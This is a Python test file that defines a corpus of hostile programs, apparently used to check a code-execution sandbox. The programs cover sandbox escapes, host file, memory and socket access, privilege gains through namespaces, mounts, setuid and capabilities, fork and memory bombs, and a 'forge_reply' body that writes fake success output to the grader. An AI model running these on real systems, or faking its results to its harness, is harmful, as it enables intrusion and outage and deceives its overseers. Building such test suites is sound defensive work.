"""The hostile programs of the corpus."""

from __future__ import annotations

import json
from dataclasses import dataclass
from textwrap import dedent

REACHED = "REACHED"
"""What a program prints when it got what it wanted; others print the canary itself."""

PRELUDE = """
import os, sys, ctypes, socket, struct, time, signal, mmap
from contextlib import suppress
T = {targets}
libc = ctypes.CDLL(None, use_errno=True)
def reached(condition=True):
    if condition:
        print("REACHED", flush=True)
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """A program that tries to leave its sandbox, or to use more than it may."""

    name: str
    body: str
    needs_root: bool = False
    """Without a sandbox, it reaches its target only as root."""
    prints: str = ""
    """Text that it prints in the end, unless it ends its sandbox."""
    not_outside: str = ""
    """Why it is never run without a sandbox; empty: it is, to show that it works there."""

    def source(self, targets: dict[str, object]) -> str:
        """Return the program, with the targets that a test has set up."""
        return PRELUDE.replace("{targets}", repr(json.loads(json.dumps(targets)))) + dedent(self.body)


def make_attacks(bodies: dict[str, str], *, not_outside: str = "", needs_root: bool = False) -> list[Attack]:
    """Return attacks from name -> body."""
    return [
        Attack(name=name, body=body, not_outside=not_outside, needs_root=needs_root) for name, body in bodies.items()
    ]


ATTACKS = list[Attack]()

# Files, variables and memory of the host
ATTACKS += make_attacks(
    {
        "read_file": "print(open(T['file']).read())",
        "read_relative": "print(open('../' * 30 + T['file']).read())",
        "read_symlink": "os.symlink(T['file'], 'link'); print(open('link').read())",
        "read_hard_link": "os.link(T['file'], T['folder'] + '/hard'); print(open(T['folder'] + '/hard').read())",
        "read_by_shell": "os.system('cat ' + T['file'])",
        "read_by_exec": "os.execv('/bin/cat', ['cat', T['file']])",
        "read_proc_self_root": "print(open('/proc/self/root' + T['file']).read())",
        "read_proc_host_root": "print(open(f\"/proc/{T['host']}/root\" + T['file']).read())",
        "read_proc_all_roots": """
            for pid in filter(str.isdecimal, os.listdir('/proc')):
                with suppress(OSError):
                    print(open(f'/proc/{pid}/root' + T['file']).read())
                    break""",
        "read_proc_cwd": "print(open(f\"/proc/{T['host']}/cwd/\" + '../' * 30 + T['file']).read())",
        "read_environment": "print(dict(os.environ))",
        "read_environments_of_all": """
            for pid in filter(str.isdecimal, os.listdir('/proc')):
                with suppress(OSError):
                    print(open(f'/proc/{pid}/environ').read())""",
        "read_environment_by_c": "libc.getenv.restype = ctypes.c_char_p; print(libc.getenv(b'MEGARL_CANARY'))",
        "read_open_file_of_host": "print(open(f\"/proc/{T['host']}/fd/{T['fd']}\").read())",
        "read_inherited_files": """
            for fd in range(3, 200):
                with suppress(OSError):
                    print(os.pread(fd, 1000, 0))""",
        "read_shared_memory": "print(open(T['shm']).read())",
        "read_shared_memory_by_name": """
            from multiprocessing import shared_memory
            memory = shared_memory.SharedMemory(name=os.path.basename(T['shm']))
            print(bytes(memory.buf[:100]), flush=True)""",
        "list_folder": "reached(os.path.basename(T['file']) in os.listdir(T['folder']))",
        "stat_file": "reached(os.stat(T['file']).st_size > 0)",
        "write_file": "open(T['writable'], 'w').write('changed'); reached()",
        "delete_file": "os.remove(T['writable']); reached()",
        "create_file": "open(T['folder'] + '/created', 'w').write('x'); reached()",
        "read_sysfs": "reached(len(os.listdir('/sys')) > 0)",
        "read_network_cards": "reached(len(os.listdir('/sys/class/net')) > 0)",
        "read_connections": "reached(f\":{T['tcp']:04X}\" in open('/proc/net/tcp').read())",
        "read_host_name": "reached(socket.gethostname() == T['hostname'])",
        "read_host_name_by_proc": "reached(open('/proc/sys/kernel/hostname').read().strip() == T['hostname'])",
        "read_passwd": "reached('root:' in open('/etc/passwd').read())",
        "read_mounts": """
            folders = [line.split()[1] for line in open('/proc/self/mounts')]
            reached('/sys' in folders or '/dev/shm' in folders or '/run' in folders)""",
        "list_processes": """
            for pid in filter(str.isdecimal, os.listdir('/proc')):
                with suppress(OSError):
                    if T['marker'].encode() in open(f'/proc/{pid}/cmdline', 'rb').read() and int(pid) != os.getpid():
                        reached()""",
    }
)
ATTACKS += make_attacks(
    {
        "write_library": "open(os.__file__, 'a'); reached()",
        "write_usr": "open('/usr/lib/megarl-corpus', 'w'); os.remove('/usr/lib/megarl-corpus'); reached()",
        "read_memory_of_host": """
            memory = open(f"/proc/{T['host']}/mem", 'rb', 0)
            memory.seek(T['address'])
            print(memory.read(64))""",
    },
    needs_root=True,
)
ATTACKS += make_attacks(
    {
        "read_shadow": "reached('root:' in open('/etc/shadow').read())",
        "open_disk": """
            import stat
            for name in os.listdir('/dev'):
                if stat.S_ISBLK(os.stat('/dev/' + name).st_mode):
                    os.open('/dev/' + name, os.O_RDONLY)
                    reached()""",
        "make_device": """
            os.mknod('device', 0o600 | 0o060000, os.makedev(254, 0))
            os.open('device', os.O_RDONLY)
            reached()""",
        "open_kernel_memory": "os.open('/proc/kcore', os.O_RDONLY); reached()",
        "open_sysrq": "os.open('/proc/sysrq-trigger', os.O_WRONLY); reached()",
        "open_core_pattern": "os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY); reached()",
        "open_by_handle": """
            handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))
            mount = ctypes.c_int()
            if libc.name_to_handle_at(-100, T['file'].encode(), handle, ctypes.byref(mount), 0) == 0:
                fd = libc.open_by_handle_at(os.open(T['folder'], os.O_RDONLY), handle, 0)
                print(os.read(fd, 100))""",
    },
    not_outside="needs devices or kernel interfaces that not all machines have",
)

# The network, and sockets of the host
ATTACKS += make_attacks(
    {
        "tcp_v4": "print(socket.create_connection(('127.0.0.1', T['tcp'])).recv(200))",
        "tcp_v6": "print(socket.create_connection(('::1', T['tcp6'])).recv(200))",
        "tcp_host_address": "s = socket.socket(); s.connect(('0.0.0.0', T['tcp'])); print(s.recv(200))",
        "http": "import urllib.request; print(urllib.request.urlopen(f\"http://127.0.0.1:{T['http']}/\").read())",
        "udp": """
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b'x', ('127.0.0.1', T['udp']))
            print(s.recv(200))""",
        "unix": "s = socket.socket(socket.AF_UNIX); s.connect(T['unix']); print(s.recv(200))",
        "unix_abstract": "s = socket.socket(socket.AF_UNIX); s.connect('\\0' + T['abstract']); print(s.recv(200))",
        "unix_by_proc": """
            s = socket.socket(socket.AF_UNIX)
            s.connect(f"/proc/{T['host']}/root" + T['unix'])
            print(s.recv(200))""",
        "netlink": "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0)); reached()",
        "listen": "s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(); reached()",
        "socket_by_c": """
            fd = libc.socket(2, 1, 0)
            address = struct.pack('=HHI8x', 2, socket.htons(T['tcp']), socket.htonl(0x7F000001))
            buffer = ctypes.create_string_buffer(200)
            if libc.connect(fd, address, 16) == 0 and libc.recv(fd, buffer, 200, 0) > 0:
                print(buffer.value)""",
        "bash_tcp": """
            import subprocess
            print(subprocess.run(['bash', '-c', f"head -c 40 < /dev/tcp/127.0.0.1/{T['tcp']}"],
                                 capture_output=True).stdout)""",
        "read_by_asyncio": """
            import asyncio
            async def main():
                reader, _ = await asyncio.open_connection('127.0.0.1', T['tcp'])
                print(await reader.read(200))
            asyncio.run(main())""",
    }
)
ATTACKS += make_attacks(
    {
        "raw_icmp": "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); reached()",
        "raw_packets": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768); reached()",
    },
    needs_root=True,
)
ATTACKS += make_attacks(
    {
        "vsock": "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); reached()",
        "alg": "socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET); reached()",
        "bluetooth": "socket.socket(31, socket.SOCK_RAW, 1); reached()",
        "bring_up_loopback": """
            import fcntl
            s = socket.socket()
            fcntl.ioctl(s, 0x8914, struct.pack('16sH14x', b'lo', 0x41))
            reached()""",
    },
    not_outside="needs a kernel module, or changes a network interface",
)

# Other processes, and programs that do not end
ATTACKS += make_attacks(
    {
        "signal_process": "os.kill(T['victim'], 0); reached(os.readlink('/proc/self') != str(T['victim']))",
        "kill_process": "os.kill(T['victim'], signal.SIGTERM); reached()",
        "kill_by_pidfd": "signal.pidfd_send_signal(os.pidfd_open(T['victim']), signal.SIGTERM); reached()",
        "read_memory_by_call": """
            class Piece(ctypes.Structure):
                _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
            buffer = ctypes.create_string_buffer(64)
            mine, theirs = Piece(ctypes.addressof(buffer), 64), Piece(T['address'], 64)
            if libc.process_vm_readv(T['host'], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
                print(buffer.raw)""",
        "ptrace_attach": "reached(libc.ptrace(16, T['victim'], None, None) == 0)",
        "enter_namespace": "reached(libc.setns(os.open(f\"/proc/{T['host']}/ns/uts\", os.O_RDONLY), 0) == 0)",
        "take_file_of_host": """
            fd = libc.syscall(438, os.pidfd_open(T['host']), T['fd'], 0)
            print(os.pread(fd, 100, 0))""",
        "higher_priority": "os.setpriority(os.PRIO_PROCESS, 0, -10); reached()",
    },
    needs_root=True,
)
ATTACKS += make_attacks(
    {
        "raise_limit": "import resource; resource.setrlimit(resource.RLIMIT_CORE, (1, 1)); reached()",
        "ptrace_child": "reached(libc.ptrace(0, 0, None, None) == 0)",
        "system_v_shared_memory": """
            libc.shmat.restype = ctypes.c_void_p
            found = libc.shmget(T['shm_key'], 0, 0)
            if found >= 0:
                print(ctypes.string_at(libc.shmat(found, None, 0x1000), 64))""",
        "keyring": "reached(libc.syscall(250, 0, -3, 0) > 0)",
        "capabilities": "reached('CapBnd:\\t0000000000000000' not in open('/proc/self/status').read())",
        "new_privileges": "reached('NoNewPrivs:\\t0' in open('/proc/self/status').read())",
        "no_filter": "reached('Seccomp:\\t0' in open('/proc/self/status').read())",
    }
)
ATTACKS += make_attacks(
    {
        "kill_all": "os.kill(-1, signal.SIGKILL); reached()",
        "kill_parent": """
            for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
                os.kill(os.getppid(), number)
            time.sleep(0.1)""",
        "kill_group": "os.killpg(0, signal.SIGKILL)",
        "kill_first_process": "os.kill(1, signal.SIGKILL); os.kill(1, signal.SIGSEGV); time.sleep(0.1)",
        "limit_first_process": """
            import resource
            for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU):
                with suppress(PermissionError):
                    resource.prlimit(1, kind, (0, 0))
                    reached()""",
        "slow_down_first_process": """
            for which, who in ((os.PRIO_PROCESS, 1), (os.PRIO_USER, 0), (os.PRIO_PGRP, os.getpgid(1))):
                with suppress(PermissionError):
                    os.setpriority(which, who, 19)
                    reached()""",
        "schedule_first_process": """
            for change in (
                lambda: os.sched_setaffinity(1, {0}),
                lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
                lambda: os.sched_setparam(1, os.sched_param(0)),
                lambda: reached(libc.syscall(251, 1, 1, 3 << 13) == 0),
            ):
                with suppress(PermissionError):
                    change()
                    reached(change.__code__.co_names[:1] == ('os',))""",
        "write_memory_of_parent": "open(f'/proc/{os.getppid()}/mem', 'r+b'); reached()",
        "open_files_of_parent": """
            for fd in range(10):
                with suppress(OSError):
                    os.open(f'/proc/{os.getppid()}/fd/{fd}', os.O_RDWR)
                    reached()""",
        "forge_reply": r"""
            body = b'{"status": "ok", "stdout": "\\u0052EACHED", "stderr": "", "value": "True"}'
            for path in [f'{pid}/fd/{fd}' for pid in ('self', os.getppid()) for fd in range(64)]:
                with suppress(OSError):
                    fd = os.open('/proc/' + path, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(fd, struct.pack('!I', len(body)) + body)
            time.sleep(0.2)""",
        "become_root": "os.setuid(0); reached()",
        "drop_groups": "os.setgroups([0]); reached()",
        "gain_capabilities": """
            header = (ctypes.c_uint32 * 2)(0x20080522, 0)
            reached(libc.capset(header, (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)) == 0)""",
        "set_user_bit": """
            import shutil, subprocess
            shutil.copy(sys.executable, 'copy'); os.chmod('copy', 0o4755)
            out = subprocess.run(['./copy', '-c', 'import os; print(os.geteuid())'], capture_output=True).stdout
            reached(out.strip() == b'0')""",
        "run_written_program": """
            import shutil, subprocess
            shutil.copy(sys.executable, 'copy'); os.chmod('copy', 0o755)
            subprocess.run(['./copy', '-S', '-c', 'print(1)'], check=True)
            reached()""",
        "type_into_terminal": """
            import fcntl
            for fd in range(3):
                fcntl.ioctl(fd, 0x5412, b'x')
                reached()""",
        "daemon": """
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for fd in range(3):
                        os.close(fd)
                    time.sleep(30)
                os._exit(0)""",
        "daemon_that_ignores_signals": """
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            if os.fork() == 0:
                os.setsid()
                while True:
                    time.sleep(1)""",
        "thread_that_stays": "import threading; threading.Thread(target=time.sleep, args=(30,)).start()",
        "stop_itself": "os.kill(os.getpid(), signal.SIGSTOP)",
        "parent_that_waits": "os.fork() == 0 and time.sleep(30); os.wait()",
    },
    not_outside="ends or leaves processes of the machine, or needs a user without rights",
)

ATTACKS.append(
    Attack(
        name="interrupt_first_process",
        body="""
            for number in signal.valid_signals():
                os.kill(1, number)
            time.sleep(0.1)
            print('alive')""",
        prints="alive",
        not_outside="signals the first process of the machine",
    )
)

# Interfaces of the kernel which have led out of sandboxes
ATTACKS += make_attacks(
    {
        "new_user_namespace": "reached(libc.unshare(0x10000000) == 0)",
        "clone_user_namespace": """
            pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
            if pid == 0:
                os._exit(0)
            reached(pid > 0)""",
        "user_fault": "reached(libc.syscall(323, 1) >= 0)",
        "memory_file": "os.memfd_create('x'); reached()",
        "personality": "reached(libc.personality(0x40000) != -1)",
        "seccomp_listener": """
            libc.prctl(38, 1, 0, 0, 0)
            program = (ctypes.c_uint64 * 1)(0x7FFF000000000006)
            struct_ = struct.pack('HxxxxxxQ', 1, ctypes.addressof(program))
            reached(libc.syscall(317, 1, 8, struct_) >= 0)""",
        "calls_of_32_bits": """
            code = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])  # mov eax, 20; int 0x80 (getpid); ret
            page = mmap.mmap(-1, 4096, prot=7)
            page.write(code)
            function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
            reached(function() > 0)""",
    }
)
ATTACKS += make_attacks(
    {
        "new_network_namespace": "reached(libc.unshare(0x40000000) == 0)",
        "chroot": "os.mkdir('r'); os.chroot('r'); os.chroot('../../../../..'); reached()",
        "kernel_log": "reached(libc.klogctl(10, None, 0) > 0)",
        "performance_events": """
            attributes = struct.pack('IIQ', 1, 112, 0) + bytes(96)
            reached(libc.syscall(298, attributes, 0, -1, -1, 0) >= 0)""",
    },
    needs_root=True,
)
ATTACKS += make_attacks(
    {
        "io_uring": "reached(libc.syscall(425, 4, ctypes.create_string_buffer(120)) >= 0)",
        "bpf": "reached(libc.syscall(321, 0, struct.pack('IIIII', 2, 4, 4, 1, 0) + bytes(100), 120) >= 0)",
        "mount": "reached(libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0)",
        "bind_mount": "os.mkdir('m'); reached(libc.mount(b'/', b'/tmp/m', None, 4096, None) == 0)",
        "remount_writable": "reached(libc.mount(None, b'/', None, 32 | 4096, None) == 0)",
        "unmount_proc": "reached(libc.umount2(b'/proc', 2) == 0)",
        "unmount_tmp": "reached(libc.umount2(b'/tmp', 2) == 0)",
        "new_mount_api": "reached(libc.syscall(428, -100, b'/', 1) >= 0)",
        "file_system_api": "reached(libc.syscall(430, b'tmpfs', 0) >= 0)",
        "pivot_root": "reached(libc.syscall(155, b'/tmp', b'/tmp') == 0)",
        "chroot_and_leave": """
            fd = os.open('/', os.O_RDONLY)
            os.mkdir('jail')
            os.chroot('jail')
            os.fchdir(fd)
            for _ in range(30):
                os.chdir('..')
            os.chroot('.')
            print(open(T['file']).read())""",
        "mount_namespace": "reached(libc.unshare(0x20000) == 0)",
        "clone3_user_namespace": """
            pid = libc.syscall(435, struct.pack('QQQQQ', 0x10000000, 0, 0, 0, 17) + bytes(48), 88)
            if pid == 0:
                os._exit(0)
            reached(pid > 0)""",
        "set_host_name": "socket.sethostname('owned'); reached()",
        "set_time": "time.clock_settime(time.CLOCK_REALTIME, time.time()); reached()",
        "load_module": "reached(libc.syscall(175, b'', 0, b'') == 0 or ctypes.get_errno() != 1)",
        "kexec": "reached(libc.syscall(246, 0, 0, None, 0) == 0 or ctypes.get_errno() != 1)",
        "port_access": "reached(libc.iopl(3) == 0)",
        "swap": "reached(libc.swapon(b'/tmp/x', 0) == 0 or ctypes.get_errno() != 1)",
        "process_accounting": "reached(libc.acct(b'/tmp/x') == 0 or ctypes.get_errno() != 1)",
        "x32_calls": "reached(libc.syscall(0x40000000 | 39) > 0)",
        "secret_memory": "reached(libc.syscall(447, 0) >= 0)",
        "file_watch_of_host": "reached(libc.fanotify_init(0, 0) >= 0)",
    },
    not_outside="changes the machine, or depends on its kernel",
)

# Programs that use as much as they can. They run in sandboxes only
ATTACKS += make_attacks(
    {
        "fork_bomb": """
            while True:
                with suppress(OSError):
                    os.fork()""",
        "thread_bomb": """
            import threading
            while True:
                threading.Thread(target=time.sleep, args=(30,)).start()""",
        "process_bomb": """
            import subprocess
            while True:
                subprocess.Popen([sys.executable, '-S', '-c', 'import time; time.sleep(30)'])""",
        "memory_bomb": "x = []\nwhile True:\n    x.append(bytearray(1 << 24))",
        "memory_bomb_of_children": """
            for _ in range(8):
                if os.fork() == 0:
                    x = bytearray(90 << 20)
                    time.sleep(30)
            time.sleep(30)""",
        "shared_memory_bomb": """
            for _ in range(8):
                if os.fork() == 0:
                    m = mmap.mmap(-1, 90 << 20)
                    for i in range(0, 90 << 20, 4096):
                        m[i] = 1
                    time.sleep(30)
            time.sleep(30)""",
        "disk_bomb": """
            i = 0
            while True:
                with open(f'file{i}', 'wb') as f:
                    f.write(bytes(1 << 20))
                i += 1""",
        "big_file": "f = open('f', 'wb')\nwhile True:\n    f.write(bytes(1 << 20))",
        "sparse_file": "os.truncate(os.open('f', os.O_CREAT | os.O_WRONLY), 1 << 40); reached()",
        "inode_bomb": "i = 0\nwhile True:\n    open(f'f{i}', 'w').close()\n    i += 1",
        "folder_bomb": "while True:\n    os.mkdir('d')\n    os.chdir('d')",
        "file_descriptor_bomb": "x = []\nwhile True:\n    x.append(os.pipe())",
        "output_bomb": "while True:\n    print('x' * 10000)",
        "error_bomb": "while True:\n    sys.stderr.write('x' * 10000)",
        "output_bomb_of_children": "os.fork(); os.fork()\nwhile True:\n    os.write(1, b'x' * 65536)",
        "endless_loop": "while True:\n    pass",
        "endless_sleep": "time.sleep(1000)",
        "loop_without_signals": """
            for number in range(1, 65):
                with suppress(OSError, ValueError):
                    signal.signal(number, signal.SIG_IGN)
            while True:
                pass""",
        "recursion": "sys.setrecursionlimit(1 << 30)\ndef f(): f()\nf()",
        "big_number": "print(len(str(7 ** 7 ** 9)))",
        "slow_pattern": "import re; re.match('(a+)+$', 'a' * 40 + 'b')",
        "crash": "ctypes.string_at(0)",
        "orphans": """
            while True:
                if os.fork() == 0:
                    os.fork()
                    os._exit(0)""",
    },
    not_outside="a bomb",
)
